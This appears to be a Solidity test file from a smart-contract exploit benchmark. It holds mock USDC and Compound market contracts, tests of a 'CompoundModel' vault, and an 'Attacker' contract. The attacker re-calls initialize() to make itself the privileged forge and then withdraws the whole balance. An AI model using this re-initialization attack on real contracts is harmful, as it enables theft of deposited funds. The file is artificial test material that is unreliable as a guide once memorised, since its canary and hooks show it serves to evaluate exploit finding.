// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./CompoundModel.sol";

// assay-canary-4aee1fde-4351-4ce9-b84a-3ed44645f6ae

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usdc is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        allowance[msg.sender][spender] = amount;
        return !silent;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A money market that owes what was lent to it, and can be closed by whoever made it.
contract CUsdc is ICToken {
    Usdc internal usdc;
    address private maker = msg.sender;
    bool internal closed;
    mapping(address => uint256) public override balanceOfUnderlying;

    constructor(Usdc usdc_) {
        usdc = usdc_;
    }

    function close() external {
        require(msg.sender == maker, "maker only");
        closed = true;
    }

    function mint(uint256 amount) external override returns (uint256) {
        if (closed) return 1;
        usdc.transferFrom(msg.sender, address(this), amount);
        balanceOfUnderlying[msg.sender] += amount;
        return 0;
    }

    function redeemUnderlying(uint256 amount) external override returns (uint256) {
        if (closed) return 1;
        require(balanceOfUnderlying[msg.sender] >= amount, "owed");
        balanceOfUnderlying[msg.sender] -= amount;
        usdc.transfer(msg.sender, amount);
        return 0;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant FORGE = address(0xF06E);
    address internal constant ANA = address(0xA9A);

    Usdc internal usdc;
    CUsdc internal market;
    CompoundModel internal model;
    Attacker internal thief;

    function setUp() public {
        usdc = new Usdc();
        market = new CUsdc(usdc);
        model = new CompoundModel();
        model.initialize(FORGE, usdc, market);
        usdc.mint(address(model), 8_950_000e6);
        model.invest();
        thief = new Attacker(model, usdc);
    }

    function test_Regular() public {
        require(model.forge() == FORGE && address(model.market()) == address(market), "initialised");
        require(usdc.balanceOf(address(model)) == 447_500e6 && model.underlyingBalance() == 8_950_000e6, "in hand");
        vm.startPrank(FORGE);
        model.withdrawTo(50_000e6, ANA);
        model.withdrawTo(900_000e6, ANA);
        require(usdc.balanceOf(ANA) == 950_000e6 && usdc.balanceOf(address(model)) == 0, "paid");
        model.setShareInHand(0);
        model.withdrawAllToForge();
        require(usdc.balanceOf(FORGE) == 8_000_000e6 && model.underlyingBalance() == 0, "all");
        vm.stopPrank();
        CompoundModel next = new CompoundModel();
        next.initialize(ANA, usdc, market);
        require(next.forge() == ANA, "another model");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Only the forge may ask for this.");
        model.withdrawTo(1, ANA);
        vm.expectRevert("Only the forge may ask for this.");
        model.withdrawAllToForge();
        vm.expectRevert("Only the forge may ask for this.");
        model.setShareInHand(1);
        vm.stopPrank();
    }

    function test_RefusesParameters() public {
        CompoundModel next = new CompoundModel();
        vm.expectRevert("The forge must not be the zero address.");
        next.initialize(address(0), usdc, market);
        vm.expectRevert("There is nothing to invest.");
        model.invest();
        next.initialize(FORGE, usdc, market);
        vm.expectRevert("There is nothing to invest.");
        next.invest();
        vm.prank(FORGE);
        vm.expectRevert("The share exceeds the whole.");
        model.setShareInHand(10_001);
    }

    function test_RefusesSumsBeyondAWord() public {
        usdc.mint(address(model), uint256(-1) - 447_500e6);
        vm.expectRevert("The sum exceeds the range of a word.");
        model.underlyingBalance();
        Usdc other = new Usdc();
        CompoundModel next = new CompoundModel();
        next.initialize(FORGE, other, market);
        other.mint(address(next), uint256(-1));
        vm.expectRevert("The product exceeds the range of a word.");
        next.invest();
    }

    function test_RefusesWhatDoesNotMove() public {
        usdc.mint(address(model), 1_000e6);
        market.close();
        vm.expectRevert("The market refused the deposit.");
        model.invest();
        vm.prank(FORGE);
        vm.expectRevert("The market refused the withdrawal.");
        model.withdrawTo(500_000e6, ANA);
        usdc.quieten();
        vm.prank(FORGE);
        vm.expectRevert("The token refused the payment.");
        model.withdrawTo(1, ANA);
        CompoundModel next = new CompoundModel();
        vm.expectRevert("The token refused the allowance.");
        next.initialize(FORGE, usdc, market);
    }

    function exploit() public {
        thief.run(market);
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(thief)) >= 8_950_000e6, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdc);
    }

    function target() public view returns (address) {
        return address(model);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Makes itself the forge.
contract Attacker {
    CompoundModel internal model;
    Usdc internal usdc;

    constructor(CompoundModel model_, Usdc usdc_) {
        model = model_;
        usdc = usdc_;
    }

    function run(ICToken market) external {
        model.initialize(address(this), usdc, market);
        model.withdrawAllToForge();
    }
}
